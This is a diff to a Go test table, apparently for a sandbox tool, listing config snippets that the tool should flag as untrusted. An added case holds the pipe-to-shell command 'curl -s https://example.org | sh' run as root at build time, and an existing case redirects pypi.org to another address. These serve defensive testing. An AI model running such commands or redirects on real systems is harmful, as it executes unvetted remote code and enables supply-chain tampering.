@@ -42,6 +42,8 @@ var untrustedFiles = []untrustedFile{
 	{name: "extra hosts", file: "extraHosts: ['pypi.org:10.9.9.9']\n", key: "extraHosts[0]", line: 1},
 	{name: "a workspace the sandbox may write", file: "workspace: rw\n", key: "workspace", line: 1},
 	{name: "an image sbx did not build", file: "image: debian:bookworm-slim\n", key: "image", line: 1},
+	{name: "setup commands run as root at build time", file: "setup:\n  run: ['curl -s https://example.org | sh']\n", key: "setup.run", line: 2},
+	{name: "setup packages", file: "setup:\n  apt: [bc]\n", key: "setup.apt", line: 2},
 	{name: "maxRunning stops other projects' sandboxes", file: "maxRunning: 1\n", key: "maxRunning", line: 1},
 	{name: "evict", file: "evict: stop\n", key: "evict", line: 1},
 	{name: "fewer protected paths", file: "protectedPaths: [.sbx.yaml]\n", key: "protectedPaths", line: 1},
